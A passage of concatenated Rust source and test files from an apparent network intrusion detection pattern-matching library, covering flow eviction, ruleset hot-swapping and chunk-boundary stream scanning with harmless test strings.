fn max_flows_lru_eviction_matches_barrier_semantics() {
    let rules = PatternSet::from_literals(&["split"]);
    let engine: SharedMatcher = Arc::from(build_auto(&rules));
    // One worker, two resident flows — the barrier scanner's LRU scenario,
    // replayed on the pipeline (worker(1) keeps dispatch order == scan
    // order, so the eviction sequence is deterministic).
    let build = || {
        ScannerBuilder::new()
            .engine(engine.clone(), &rules)
            .workers(1)
            .max_flows(2)
    };
    let batch1 = || {
        vec![
            Packet::new(1, b"..sp".to_vec()),
            Packet::new(2, b"..sp".to_vec()),
            Packet::new(1, b"spl".to_vec()),
        ]
    };
    let batch2 = || {
        vec![
            Packet::new(3, b"zzz".to_vec()),
            Packet::new(1, b"it!".to_vec()),
            Packet::new(2, b"lit".to_vec()),
        ]
    };
    let mut pipeline = build().build().expect("valid build");
    pipeline.scan_batch(batch1()).expect("workers alive");
    let got = pipeline.scan_batch(batch2()).expect("workers alive");
    let mut barrier = build().build_barrier().expect("valid build");
    barrier.scan_batch(batch1());
    let expected = barrier.scan_batch(batch2());
    assert_eq!(got.matches, expected.matches);
    assert_eq!(got.matches.len(), 1, "only the retained flow straddles");
    assert_eq!(got.matches[0].flow, 1);
    assert!(got.evicted_flows >= 1, "flow 2 was evicted at the cap");
    assert!(got.resident_flows <= 2);
}

#[test]
fn idle_flows_are_swept_and_fresh_flows_are_kept() {
    let rules = PatternSet::from_literals(&["needle"]);
    let engine: SharedMatcher = Arc::from(build_auto(&rules));
    // Evicting side: a 1 ms timeout and a 60 ms quiet period — the next
    // drain must have swept the idle flows.
    let mut fast = ScannerBuilder::new()
        .engine(engine.clone(), &rules)
        .workers(2)
        .eviction(EvictionPolicy::idle_after(Duration::from_millis(1)))
        .build()
        .expect("valid build");
    for f in 0..10u64 {
        fast.dispatch(Packet::new(f, b"..needle..".to_vec()));
    }
    assert_eq!(fast.drain().expect("workers alive").resident_flows, 10);
    std::thread::sleep(Duration::from_millis(60));
    // A packet on one flow triggers the sweep on its worker; drain flushes
    // (and sweeps) the rest.
    fast.dispatch(Packet::new(0, b"x".to_vec()));
    let after = fast.drain().expect("workers alive");
    assert_eq!(
        after.resident_flows, 1,
        "only the just-touched flow survives the idle sweep"
    );
    assert!(after.evicted_flows >= 9);
    // Non-evicting side: a generous timeout keeps everything resident.
    let mut slow = ScannerBuilder::new()
        .engine(engine.clone(), &rules)
        .workers(2)
        .eviction(EvictionPolicy::max_flows(100).and_idle_after(Duration::from_secs(600)))
        .build()
        .expect("valid build");
    for f in 0..10u64 {
        slow.dispatch(Packet::new(f, b"..needle..".to_vec()));
    }
    let kept = slow.drain().expect("workers alive");
    assert_eq!(kept.resident_flows, 10);
    assert_eq!(kept.evicted_flows, 0);
}

#[test]
fn poll_streams_results_without_a_barrier_and_drain_does_not_repeat_them() {
    let rules = PatternSet::from_literals(&["needle"]);
    let engine: SharedMatcher = Arc::from(build_auto(&rules));
    let mut pipeline = ScannerBuilder::new()
        .engine(engine.clone(), &rules)
        .workers(2)
        .build()
        .expect("valid build");
    for f in 0..50u64 {
        pipeline.dispatch(Packet::new(f, b"..needle..".to_vec()));
    }
    // Poll until every match has streamed out — no drain involved.
    let mut streamed = Vec::new();
    while streamed.len() < 50 {
        let (matches, _) = pipeline.poll().expect("workers alive");
        streamed.extend(matches);
        std::thread::yield_now();
    }
    assert_eq!(streamed.len(), 50);
    // Results handed out by poll() are not repeated by drain(), but the
    // interval's stats still cover all 50 packets.
    let stats = pipeline.drain().expect("workers alive");
    assert!(stats.matches.is_empty());
    assert_eq!(stats.stats.matches, 50);
    assert_eq!(stats.latency.count, 50);
}

#[test]
fn zero_idle_timeout_makes_every_packet_a_fresh_stream() {
    // idle_after == ZERO is the degenerate edge of the sweep's `>=`
    // comparison: every resident flow is stale at every sweep, so stream
    // state never survives from one packet to the next.
    let rules = PatternSet::from_literals(&["split"]);
    let engine: SharedMatcher = Arc::from(build_auto(&rules));
    let mut pipeline = ScannerBuilder::new()
        .engine(engine, &rules)
        .workers(1)
        .eviction(EvictionPolicy::idle_after(Duration::ZERO))
        .build()
        .expect("valid build");
    pipeline.dispatch(Packet::new(1, b"..spl".to_vec()));
    pipeline.dispatch(Packet::new(1, b"it...".to_vec()));
    pipeline.dispatch(Packet::new(1, b"split".to_vec()));
    let stats = pipeline.drain().expect("workers alive");
    assert_eq!(
        stats.matches.len(),
        1,
        "the straddle is severed; only the single-packet occurrence matches"
    );
    assert_eq!(stats.matches[0].event.start, 0, "fresh stream offsets");
    assert_eq!(stats.resident_flows, 0, "the drain's sweep evicts the rest");
    assert!(stats.evicted_flows >= 2);
}

#[test]
fn lru_eviction_under_backpressure_still_matches_the_barrier() {
    // Eviction churning *while* 2-slot rings push back: the flow cap and
    // the backpressure loop interleave on the hot path, and the result
    // must still be byte-identical to the barrier scanner under the same
    // cap (same per-worker division, same LRU order).
    let rules = PatternSet::from_literals(&["needle"]);
    let engine: SharedMatcher = Arc::from(build_auto(&rules));
    let packets: Vec<Packet> = (0..2000u64)
        .map(|i| {
            let half: &[u8] = if i % 2 == 0 { b"..nee" } else { b"dle.." };
            Packet::new(i % 17, half.to_vec())
        })
        .collect();
    let mut barrier = ScannerBuilder::new()
        .engine(engine.clone(), &rules)
        .workers(2)
        .max_flows(4)
        .build_barrier()
        .expect("valid build");
    let expected = barrier.scan_batch(packets.clone());
    let mut pipeline = ScannerBuilder::new()
        .engine(engine.clone(), &rules)
        .workers(2)
        .ring_capacity(2)
        .max_flows(4)
        .build()
        .expect("valid build");
    let got = pipeline.scan_batch(packets.clone()).expect("workers alive");
    assert_eq!(got.matches, expected.matches);
    assert_eq!(got.stats.bytes_scanned, expected.stats.bytes_scanned);
    assert!(got.backpressure_waits > 0, "2-slot rings must push back");
    assert!(
        got.evicted_flows > 0,
        "17 flows against a cap of 4 must churn"
    );
}

#[test]
fn evicting_a_degraded_flow_releases_its_state() {
    use mpm_patterns::rule::{Rule, RuleContent, RuleSet};
    use mpm_patterns::ProtocolGroup;
    let set = RuleSet::new(vec![Rule::new(
        ProtocolGroup::Any,
        vec![RuleContent::new(*b"pass")],
    )]);
    let engine: SharedMatcher = Arc::new(NaiveMatcher::new(set.anchors()));
    let mut pipeline = ScannerBuilder::new()
        .rules(engine, &set)
        .workers(1)
        .max_flows(1)
        .max_flow_buffer(8)
        .build()
        .expect("valid build");
    // Flow 1 blows through the 8-byte cap and degrades (8 kept, 8
    // truncated, buffer released).
    pipeline.dispatch(Packet::new(1, vec![b'.'; 16]));
    // Flow 2 arrives: the 1-flow cap evicts degraded flow 1.
    pipeline.dispatch(Packet::new(2, b"zz".to_vec()));
    // Flow 1 returns: a *fresh* stream under the cap, which confirms.
    pipeline.dispatch(Packet::new(1, b"..pass..".to_vec()));
    let stats = pipeline.drain().expect("workers alive");
    assert_eq!(stats.evicted_flows, 2, "flow 1 then flow 2 at the cap");
    assert_eq!(stats.resident_flows, 1);
    assert_eq!(stats.truncated_bytes, 8, "only the original over-cap push");
    assert_eq!(
        stats.degraded_flows, 0,
        "the degraded incarnation is gone; the fresh one is healthy"
    );
    assert_eq!(stats.buffered_bytes, 8, "flow 1's fresh 8-byte buffer");
    assert_eq!(stats.rule_matches.len(), 1, "the fresh stream confirms");
    assert_eq!(stats.rule_matches[0].flow, 1);
}

#[test]
fn close_flow_retires_stream_state_in_flight() {
    let rules = PatternSet::from_literals(&["split"]);
    let engine: SharedMatcher = Arc::from(build_auto(&rules));
    let mut pipeline = ScannerBuilder::new()
        .engine(engine, &rules)
        .workers(3)
        .build()
        .expect("valid build");
    pipeline.dispatch(Packet::new(9, b"..spl".to_vec()));
    pipeline.close_flow(9);
    pipeline.dispatch(Packet::new(9, b"it.split".to_vec()));
    let stats = pipeline.drain().expect("workers alive");
    assert_eq!(
        stats.matches.len(),
        1,
        "carry retired, fresh occurrence found"
    );
    assert_eq!(stats.matches[0].event.start, 3);
    assert_eq!(stats.resident_flows, 1);
}
