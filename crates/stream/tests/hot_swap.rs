//! Hot-swap differential suite: scan a spliced traffic trace while swapping
//! rulesets mid-stream and assert every flow is confirmed against **exactly
//! one** epoch's ruleset — flows minted before the swap keep scanning under
//! the old ruleset until they close (graceful drain, no torn reads), flows
//! minted after see only the new one, and the outcome is deterministic
//! across 1/2/4 workers.
//!
//! The two epochs use disjoint rules ("alpha" vs "bravo") and every flow
//! receives the identical byte stream containing both, so the reported
//! [`mpm_stream::FlowRuleMatch::end`] offset alone identifies which epoch
//! confirmed the flow: `end == 7` ⇒ epoch A, `end == 16` ⇒ epoch B. A torn
//! read (a flow scanned partly under each ruleset) would surface as a flow
//! with both ends, or with the wrong one for its mint time.

use mpm_patterns::rule::{Rule, RuleContent, RuleSet};
use mpm_patterns::{NaiveMatcher, ProtocolGroup};
use mpm_stream::{FlowRuleMatch, Packet, PipelineScanner, ScannerBuilder, SharedMatcher};
use std::sync::Arc;

fn worker_counts(default: &[usize]) -> Vec<usize> {
    match std::env::var("MPM_WORKERS") {
        Ok(v) => vec![v.parse().expect("MPM_WORKERS must be a positive integer")],
        Err(_) => default.to_vec(),
    }
}

fn single_rule_set(needle: [u8; 5]) -> RuleSet {
    RuleSet::new(vec![Rule::new(
        ProtocolGroup::Any,
        vec![RuleContent::new(needle)],
    )])
}

/// Every flow gets the same spliced stream: "--alpha--" then "--bravo--".
/// Epoch A's ruleset can only confirm at prefix 7; epoch B's only at 16.
const PACKET_A: &[u8] = b"--alpha--";
const PACKET_B: &[u8] = b"--bravo--";
const END_ALPHA: usize = 7;
const END_BRAVO: usize = 16;

fn build(workers: usize) -> (PipelineScanner, SharedMatcher, RuleSet) {
    let set_a = single_rule_set(*b"alpha");
    let set_b = single_rule_set(*b"bravo");
    let engine_a: SharedMatcher = Arc::new(NaiveMatcher::new(set_a.anchors()));
    let engine_b: SharedMatcher = Arc::new(NaiveMatcher::new(set_b.anchors()));
    let pipeline = ScannerBuilder::new()
        .rules(engine_a, &set_a)
        .workers(workers)
        .build()
        .expect("valid build");
    (pipeline, engine_b, set_b)
}

/// Runs the spliced scenario and returns the confirmed rule matches plus
/// the post-swap old-epoch flow count.
fn run_spliced(workers: usize, old_flows: u64, new_flows: u64) -> (Vec<FlowRuleMatch>, usize) {
    let (mut pipeline, engine_b, set_b) = build(workers);
    assert_eq!(pipeline.epoch(), 0);

    // Mint `old_flows` flows under epoch A with the first splice.
    for f in 0..old_flows {
        pipeline.dispatch(Packet::new(f, PACKET_A.to_vec()));
    }
    // Swap rulesets mid-stream. The marker rides the same FIFO job rings
    // as the packets, so "before"/"after" is exact per flow.
    assert_eq!(pipeline.swap_rules(engine_b, &set_b), 1);
    // Old flows continue their stream past the swap; new flows are minted
    // after it and must see only epoch B.
    for f in 0..old_flows {
        pipeline.dispatch(Packet::new(f, PACKET_B.to_vec()));
    }
    for f in old_flows..old_flows + new_flows {
        pipeline.dispatch(Packet::new(f, PACKET_A.to_vec()));
        pipeline.dispatch(Packet::new(f, PACKET_B.to_vec()));
    }
    let stats = pipeline.drain().expect("workers alive");
    assert_eq!(stats.epoch, 1);
    let old_epoch_flows = stats.old_epoch_flows;

    // Graceful drain: closing the pre-swap flows retires the last
    // old-epoch scanners.
    for f in 0..old_flows {
        pipeline.close_flow(f);
    }
    let after_close = pipeline.drain().expect("workers alive");
    assert_eq!(after_close.old_epoch_flows, 0, "old epoch fully drained");
    assert_eq!(after_close.resident_flows, new_flows as usize);

    (stats.rule_matches, old_epoch_flows)
}

#[test]
fn each_flow_confirms_against_exactly_one_epoch() {
    for workers in worker_counts(&[1, 2, 4]) {
        let (matches, old_epoch_flows) = run_spliced(workers, 12, 12);
        assert_eq!(
            old_epoch_flows, 12,
            "{workers} workers: every pre-swap flow still on epoch A"
        );
        assert_eq!(matches.len(), 24, "{workers} workers: one rule per flow");
        for m in &matches {
            let minted_pre_swap = m.flow < 12;
            let expected_end = if minted_pre_swap {
                END_ALPHA
            } else {
                END_BRAVO
            };
            assert_eq!(
                m.end, expected_end,
                "{workers} workers: flow {} confirmed by the wrong epoch",
                m.flow
            );
        }
        // Exactly one confirmation per flow — a torn read would double up.
        let mut flows: Vec<u64> = matches.iter().map(|m| m.flow).collect();
        flows.sort_unstable();
        flows.dedup();
        assert_eq!(flows.len(), 24);
    }
}

#[test]
fn swap_outcome_is_identical_across_worker_counts() {
    let (reference, _) = run_spliced(1, 9, 7);
    for workers in worker_counts(&[2, 4]) {
        let (matches, _) = run_spliced(workers, 9, 7);
        assert_eq!(
            matches, reference,
            "{workers} workers diverge from the single-worker reference"
        );
    }
}

#[test]
fn swapped_in_ruleset_governs_flows_that_outlive_several_epochs() {
    // Three epochs: alpha → bravo → alpha again. A flow minted in each
    // epoch keeps its mint-time ruleset for its whole life, so the epoch-0
    // and epoch-2 flows confirm "alpha" and the epoch-1 flow "bravo" —
    // even though all three receive both needles.
    let set_a = single_rule_set(*b"alpha");
    let set_b = single_rule_set(*b"bravo");
    let engine_a: SharedMatcher = Arc::new(NaiveMatcher::new(set_a.anchors()));
    let engine_b: SharedMatcher = Arc::new(NaiveMatcher::new(set_b.anchors()));
    let mut pipeline = ScannerBuilder::new()
        .rules(engine_a.clone(), &set_a)
        .workers(2)
        .build()
        .expect("valid build");
    let feed = |p: &mut PipelineScanner, flow: u64| {
        p.dispatch(Packet::new(flow, PACKET_A.to_vec()));
        p.dispatch(Packet::new(flow, PACKET_B.to_vec()));
    };
    feed(&mut pipeline, 0);
    assert_eq!(pipeline.swap_rules(engine_b, &set_b), 1);
    feed(&mut pipeline, 1);
    assert_eq!(pipeline.swap_rules(engine_a, &set_a), 2);
    feed(&mut pipeline, 2);
    let mut matches = pipeline.drain().expect("workers alive").rule_matches;
    matches.sort_by_key(|m| m.flow);
    let ends: Vec<(u64, usize)> = matches.iter().map(|m| (m.flow, m.end)).collect();
    assert_eq!(ends, vec![(0, END_ALPHA), (1, END_BRAVO), (2, END_ALPHA)]);
}
