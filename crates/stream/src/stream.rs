//! [`StreamScanner`]: chunk-boundary-correct scanning of a never-ending
//! byte stream.
//!
//! A NIDS never sees a flow as one contiguous buffer: payload arrives in
//! reassembled chunks of arbitrary size. A pattern may straddle any chunk
//! boundary, so per-chunk scanning alone loses matches. `StreamScanner`
//! wraps any [`Matcher`] engine and restores one-shot semantics:
//!
//! * it **carries over** the last `max_pattern_len - 1` bytes of the stream
//!   between [`StreamScanner::push`] calls and re-scans only that boundary
//!   region together with the next chunk's prefix, so a straddling match is
//!   found exactly once;
//! * it **de-duplicates** overlap re-reports: a match wholly contained in the
//!   carried-over bytes was already reported by an earlier push and is
//!   dropped;
//! * it **translates** every reported position to the absolute offset in the
//!   stream, so downstream consumers never see chunk-local coordinates.
//!
//! The invariant (property-tested in `tests/stream_equivalence.rs`): for any
//! chunking of any input — including 1-byte chunks and cuts inside every
//! pattern — the union of the events reported by the pushes equals the match
//! set of a one-shot scan of the whole input.

use mpm_patterns::{MatchEvent, Matcher, MatcherStats, PatternSet};
use std::sync::Arc;

/// A shareable, `Send + Sync` matching engine, as produced by
/// `mpm_vpatch::build_auto` and friends.
pub type SharedMatcher = Arc<dyn Matcher + Send + Sync>;

/// Stateful streaming wrapper around a [`Matcher`] engine.
///
/// One `StreamScanner` tracks one logical stream (one flow). The engine
/// itself is stateless per scan and shared via [`Arc`], so any number of
/// scanners — across flows and across threads — reuse one compiled engine.
///
/// ```
/// use mpm_patterns::PatternSet;
/// use mpm_stream::StreamScanner;
/// use std::sync::Arc;
///
/// let rules = PatternSet::from_literals(&["boundary"]);
/// let engine: mpm_stream::SharedMatcher =
///     Arc::from(mpm_patterns::NaiveMatcher::new(&rules));
/// let mut scanner = StreamScanner::new(engine, &rules);
///
/// let mut alerts = Vec::new();
/// scanner.push(b"...boun", &mut alerts); // cut inside the pattern
/// scanner.push(b"dary...", &mut alerts);
/// assert_eq!(alerts.len(), 1);
/// assert_eq!(alerts[0].start, 3); // absolute stream offset
/// ```
#[derive(Clone)]
pub struct StreamScanner {
    engine: SharedMatcher,
    /// Pattern length per [`mpm_patterns::PatternId`] — needed to decide
    /// whether a boundary-region match extends into fresh bytes.
    lengths: Arc<[u32]>,
    /// Bytes of history to keep: `max_pattern_len - 1`.
    overlap: usize,
    /// Up to `overlap` trailing bytes of the stream pushed so far.
    carry: Vec<u8>,
    /// Reusable buffer for the boundary scan (`carry` + chunk prefix).
    boundary: Vec<u8>,
    /// Reusable per-push event buffer.
    local: Vec<MatchEvent>,
    /// Absolute stream offset of the next byte to be pushed.
    position: usize,
    stats: MatcherStats,
}

impl std::fmt::Debug for StreamScanner {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("StreamScanner")
            .field("engine", &self.engine.name())
            .field("overlap", &self.overlap)
            .field("position", &self.position)
            .finish_non_exhaustive()
    }
}

impl StreamScanner {
    /// Creates a scanner for one stream.
    ///
    /// `set` must be the pattern set `engine` was compiled for; the scanner
    /// keeps only the per-pattern lengths (to classify boundary matches) and
    /// the maximum length (to size the carry-over).
    ///
    /// # Panics
    /// Panics if the engine disagrees with `set` about the longest pattern —
    /// the symptom of passing the wrong set, which would silently corrupt
    /// the carry-over invariant.
    pub fn new(engine: SharedMatcher, set: &PatternSet) -> Self {
        let lengths: Arc<[u32]> = set.patterns().iter().map(|p| p.len() as u32).collect();
        let max_len = lengths.iter().copied().max().unwrap_or(0) as usize;
        assert_eq!(
            engine.max_pattern_len(),
            max_len,
            "engine was compiled for a different pattern set"
        );
        Self::with_lengths(engine, lengths)
    }

    /// Internal constructor used by `ShardedScanner` to mint per-flow
    /// scanners without re-walking the pattern set.
    pub(crate) fn with_lengths(engine: SharedMatcher, lengths: Arc<[u32]>) -> Self {
        let max_len = lengths.iter().copied().max().unwrap_or(0) as usize;
        let overlap = max_len.saturating_sub(1);
        StreamScanner {
            engine,
            lengths,
            overlap,
            carry: Vec::with_capacity(overlap),
            boundary: Vec::with_capacity(2 * overlap),
            local: Vec::new(),
            position: 0,
            stats: MatcherStats::default(),
        }
    }

    /// Absolute offset of the next byte to be pushed (= total bytes pushed).
    pub fn position(&self) -> usize {
        self.position
    }

    /// The number of history bytes carried between pushes
    /// (`max_pattern_len - 1`).
    pub fn overlap(&self) -> usize {
        self.overlap
    }

    /// The wrapped engine.
    pub fn engine(&self) -> &SharedMatcher {
        &self.engine
    }

    /// Accumulated whole-stream statistics (`bytes_scanned` counts each
    /// stream byte exactly once; `matches` counts reported events).
    pub fn stats(&self) -> MatcherStats {
        self.stats
    }

    /// Resets the scanner for a new stream, keeping the engine and the
    /// allocated buffers.
    pub fn reset(&mut self) {
        self.carry.clear();
        self.position = 0;
        self.stats = MatcherStats::default();
    }

    /// Scans the next chunk of the stream, appending every *new* match to
    /// `out` with its start translated to the absolute stream offset.
    ///
    /// Matches are appended in no particular order (sort with
    /// [`mpm_patterns::matcher::normalize_matches`] if a canonical order is
    /// needed); across pushes every occurrence is reported exactly once.
    pub fn push(&mut self, chunk: &[u8], out: &mut Vec<MatchEvent>) {
        if chunk.is_empty() {
            return;
        }
        let reported_before = out.len();
        let carry_len = self.carry.len();

        // 1. Boundary region: matches that *start* inside the carried-over
        //    bytes. Any such match ends within `carry + chunk[..overlap]`
        //    (its start is ≥ position - overlap and its length ≤ overlap+1),
        //    so scanning that small buffer sees all of them. Matches wholly
        //    inside the carry were reported by an earlier push and are
        //    dropped; matches starting at or after the carry/chunk seam are
        //    left to the chunk scan below.
        if carry_len > 0 {
            self.boundary.clear();
            self.boundary.extend_from_slice(&self.carry);
            let prefix = chunk.len().min(self.overlap);
            self.boundary.extend_from_slice(&chunk[..prefix]);
            self.local.clear();
            self.engine.find_into(&self.boundary, &mut self.local);
            let base = self.position - carry_len;
            for m in &self.local {
                let len = self.lengths[m.pattern.index()] as usize;
                if m.start < carry_len && m.start + len > carry_len {
                    out.push(MatchEvent::new(base + m.start, m.pattern));
                }
            }
        }

        // 2. Fresh bytes: matches starting inside this chunk.
        self.local.clear();
        self.engine.find_into(chunk, &mut self.local);
        for m in &self.local {
            out.push(MatchEvent::new(self.position + m.start, m.pattern));
        }

        // 3. Advance the carry to the last `overlap` bytes of the stream.
        if self.overlap > 0 {
            if chunk.len() >= self.overlap {
                self.carry.clear();
                self.carry
                    .extend_from_slice(&chunk[chunk.len() - self.overlap..]);
            } else {
                let excess = (carry_len + chunk.len()).saturating_sub(self.overlap);
                self.carry.drain(..excess);
                self.carry.extend_from_slice(chunk);
            }
        }

        self.position += chunk.len();
        self.stats.bytes_scanned += chunk.len() as u64;
        self.stats.matches += (out.len() - reported_before) as u64;
    }

    /// Convenience wrapper: scans `chunk` and returns the new matches.
    pub fn push_collect(&mut self, chunk: &[u8]) -> Vec<MatchEvent> {
        let mut out = Vec::new();
        self.push(chunk, &mut out);
        out
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use mpm_patterns::naive::naive_find_all;
    use mpm_patterns::{matcher::normalize_matches, NaiveMatcher};

    fn scanner_for(set: &PatternSet) -> StreamScanner {
        StreamScanner::new(Arc::from(NaiveMatcher::new(set)), set)
    }

    #[test]
    fn straddling_match_reported_once_at_absolute_offset() {
        let set = PatternSet::from_literals(&["boundary", "a"]);
        let mut s = scanner_for(&set);
        let mut out = Vec::new();
        s.push(b"xxboun", &mut out);
        s.push(b"dary", &mut out);
        s.push(b"a", &mut out);
        normalize_matches(&mut out);
        let mut stream = Vec::new();
        stream.extend_from_slice(b"xxboundarya");
        assert_eq!(out, naive_find_all(&set, &stream));
        assert_eq!(s.position(), stream.len());
        assert_eq!(s.stats().bytes_scanned, stream.len() as u64);
        assert_eq!(s.stats().matches, out.len() as u64);
    }

    #[test]
    fn one_byte_chunks_equal_one_shot() {
        let set = PatternSet::from_literals(&["abc", "bc", "c", "abca"]);
        let stream = b"abcabcaxbcabca";
        let expected = naive_find_all(&set, stream);
        let mut s = scanner_for(&set);
        let mut out = Vec::new();
        for &b in stream.iter() {
            s.push(&[b], &mut out);
        }
        normalize_matches(&mut out);
        assert_eq!(out, expected);
    }

    #[test]
    fn match_inside_overlap_not_reported_twice() {
        // "aa" at offset 2 lies wholly inside the carry after the first push;
        // the second push must not re-report it.
        let set = PatternSet::from_literals(&["aaaa", "aa"]);
        let mut s = scanner_for(&set);
        let mut out = Vec::new();
        s.push(b"xaaa", &mut out);
        s.push(b"ax", &mut out);
        normalize_matches(&mut out);
        assert_eq!(out, naive_find_all(&set, b"xaaaax"));
    }

    #[test]
    fn single_byte_patterns_need_no_carry() {
        let set = PatternSet::from_literals(&["x", "y"]);
        let mut s = scanner_for(&set);
        assert_eq!(s.overlap(), 0);
        let mut out = Vec::new();
        s.push(b"xy", &mut out);
        s.push(b"yx", &mut out);
        normalize_matches(&mut out);
        assert_eq!(out, naive_find_all(&set, b"xyyx"));
    }

    #[test]
    fn reset_starts_a_fresh_stream() {
        let set = PatternSet::from_literals(&["ab"]);
        let mut s = scanner_for(&set);
        let mut out = Vec::new();
        s.push(b"za", &mut out);
        s.reset();
        assert_eq!(s.position(), 0);
        // The 'a' carried from the old stream must not pair with this 'b'.
        s.push(b"b", &mut out);
        assert!(out.is_empty());
    }

    #[test]
    fn empty_push_is_a_no_op() {
        let set = PatternSet::from_literals(&["ab"]);
        let mut s = scanner_for(&set);
        let mut out = Vec::new();
        s.push(b"a", &mut out);
        s.push(b"", &mut out);
        s.push(b"b", &mut out);
        assert_eq!(out, vec![MatchEvent::new(0, mpm_patterns::PatternId(0))]);
    }

    #[test]
    #[should_panic(expected = "different pattern set")]
    fn mismatched_set_rejected() {
        let compiled = PatternSet::from_literals(&["abcdef"]);
        let other = PatternSet::from_literals(&["ab"]);
        let _ = StreamScanner::new(Arc::from(NaiveMatcher::new(&compiled)), &other);
    }
}
