//! Grouped scanning: one engine per port group, per-flow group selection.
//!
//! [`GroupedEngineSet`] compiles one anchor engine + rule confirmer per
//! group of a [`GroupedRuleSet`], all referencing one shared
//! [`PatternArena`] so the per-group verification tables do not multiply
//! pattern storage (see `mpm_patterns::arena`). [`GroupedFlowScanner`] is
//! the per-flow state: minted with the flow's [`FlowTuple`], it streams the
//! flow's payload through only the groups
//! [`GroupedRuleSet::groups_for`] selects, re-checks exact header
//! applicability before reporting, and deduplicates rules confirmed by more
//! than one selected group — which together make grouped scanning report
//! **exactly** the rules a monolithic scan filtered post-hoc to the flow's
//! applicable rules would report (property-tested in
//! `tests/grouped_differential.rs`).
//!
//! Cross-group deduplication, on two levels:
//!
//! - **Verifier entries**: all groups share **one** [`RuleConfirmer`] built
//!   over the monolithic rule set. Per-group confirmers would each carry
//!   their own unique-content automaton — measured at ~30× the engine
//!   tables on realistic rulesets, the dominant term of the grouped memory
//!   blow-up — even though the contents they index overlap almost entirely
//!   across groups. The shared confirmer dedups every `(bytes, nocase)`
//!   content globally; per-flow scanners translate group-local rule
//!   indices to monolithic ids at confirmation time.
//! - **Engines**: groups whose local rule lists are structurally identical
//!   (same contents, modifiers and protocol group, in the same order —
//!   Snort `sid`s may differ) share one compiled engine via `Arc`, so N
//!   lookup keys pointing at the same rules cost one set of tables.
//!
//! [`GroupedEngineSet::memory_footprint`] counts each unique engine once,
//! the shared confirmer once, and the shared arena exactly once.

use crate::rules::RuleStreamScanner;
use crate::stream::{SharedMatcher, StreamScanner};
use mpm_patterns::group::GroupedRuleSet;
use mpm_patterns::ports::FlowTuple;
use mpm_patterns::rule::{RuleMatch, RuleSet};
use mpm_patterns::{MatchEvent, MemoryFootprint, PatternArena, PatternSet};
use mpm_verify::RuleConfirmer;
use std::sync::Arc;

/// One group's compiled scanning parts, shared by every flow that selects
/// the group (and, via identical-group deduplication, by every group with
/// the same rules).
struct GroupEngine {
    engine: SharedMatcher,
    /// Anchor pattern index → group-local rule index.
    rule_of: Arc<[u32]>,
    /// Anchor pattern lengths (the streaming carry needs them).
    lengths: Arc<[u32]>,
}

impl GroupEngine {
    fn build<F>(set: &RuleSet, arena: &PatternArena, build: &F) -> Self
    where
        F: Fn(&PatternSet, &PatternArena) -> SharedMatcher,
    {
        let anchors = set.anchors();
        let lengths: Arc<[u32]> = anchors.patterns().iter().map(|p| p.len() as u32).collect();
        let engine = build(anchors, arena);
        let max_len = lengths.iter().copied().max().unwrap_or(0) as usize;
        assert_eq!(
            engine.max_pattern_len(),
            max_len,
            "group engine was compiled for a different anchor set"
        );
        GroupEngine {
            engine,
            // Invariant: group anchor sets come from `RuleSet::anchors()`,
            // which always attaches one rule binding per anchor pattern.
            rule_of: anchors
                .rule_bindings()
                .expect("RuleSet::anchors is always rule-bound")
                .into(),
            lengths,
        }
    }
}

/// Structural equality of two groups' rule lists for engine sharing: same
/// contents (bytes + modifiers) and protocol groups in the same order.
/// `sid`s are deliberately ignored — two port groups carrying the same
/// rules under different sids still match identically.
fn rules_equal_ignoring_sid(a: &RuleSet, b: &RuleSet) -> bool {
    a.len() == b.len()
        && a.rules()
            .iter()
            .zip(b.rules().iter())
            .all(|(x, y)| x.group() == y.group() && x.contents() == y.contents())
}

/// Cheap pre-filter for [`rules_equal_ignoring_sid`]: a hash over the same
/// structural data, so the O(groups²) sharing scan compares byte-for-byte
/// only on hash collisions.
fn rules_signature(set: &RuleSet) -> u64 {
    use std::hash::{Hash, Hasher};
    let mut h = std::collections::hash_map::DefaultHasher::new();
    set.len().hash(&mut h);
    for rule in set.rules() {
        (rule.group() as u8).hash(&mut h);
        rule.contents().len().hash(&mut h);
        for c in rule.contents() {
            c.bytes().hash(&mut h);
            c.is_nocase().hash(&mut h);
            c.offset().hash(&mut h);
            c.depth().hash(&mut h);
            c.distance().hash(&mut h);
            c.within().hash(&mut h);
        }
    }
    h.finish()
}

/// All compiled engines of a [`GroupedRuleSet`], plus the shared pattern
/// arena — the immutable, `Arc`-shared compile product that
/// [`crate::ScannerBuilder::groups`]-built workers and
/// [`GroupedFlowScanner`]s hang off.
pub struct GroupedEngineSet {
    grouped: Arc<GroupedRuleSet>,
    /// Index-parallel to `grouped.groups()`; structurally identical groups
    /// share one `Arc`.
    engines: Vec<Arc<GroupEngine>>,
    /// The ONE confirmer, built over the monolithic rule set and shared by
    /// every group (see the module docs: per-group confirmers are the
    /// dominant memory blow-up, and their contents overlap almost
    /// entirely).
    confirmer: Arc<RuleConfirmer>,
    /// Per group, the local→monolithic rule id map handed to per-flow
    /// scanners (index-parallel to `engines`).
    global_ids: Vec<Arc<[u32]>>,
    arena_bytes: usize,
    unique_engines: usize,
}

impl std::fmt::Debug for GroupedEngineSet {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("GroupedEngineSet")
            .field("groups", &self.engines.len())
            .field("unique_engines", &self.unique_engines)
            .field("arena_bytes", &self.arena_bytes)
            .finish_non_exhaustive()
    }
}

impl GroupedEngineSet {
    /// Compiles one engine per group with `build` (e.g.
    /// `|set, arena| Arc::from(mpm_vpatch::build_auto_with_arena(set, arena))`
    /// — `mpm-stream` does not depend on the engine crates, so the caller
    /// supplies the compiler; the umbrella crate's `build_grouped_engines`
    /// wraps exactly that). The shared [`PatternArena`] is built first from
    /// every content of every rule, so each group's tables reference it by
    /// offset; groups with structurally identical rule lists share one
    /// engine + confirmer.
    pub fn build_with<F>(grouped: GroupedRuleSet, build: F) -> Self
    where
        F: Fn(&PatternSet, &PatternArena) -> SharedMatcher,
    {
        let arena = grouped.build_arena();
        let signatures: Vec<u64> = grouped
            .groups()
            .iter()
            .map(|g| rules_signature(g.rules()))
            .collect();
        let mut engines: Vec<Arc<GroupEngine>> = Vec::with_capacity(grouped.groups().len());
        let mut unique_engines = 0usize;
        for (i, group) in grouped.groups().iter().enumerate() {
            let shared = (0..i)
                .find(|&j| {
                    signatures[j] == signatures[i]
                        && rules_equal_ignoring_sid(grouped.groups()[j].rules(), group.rules())
                })
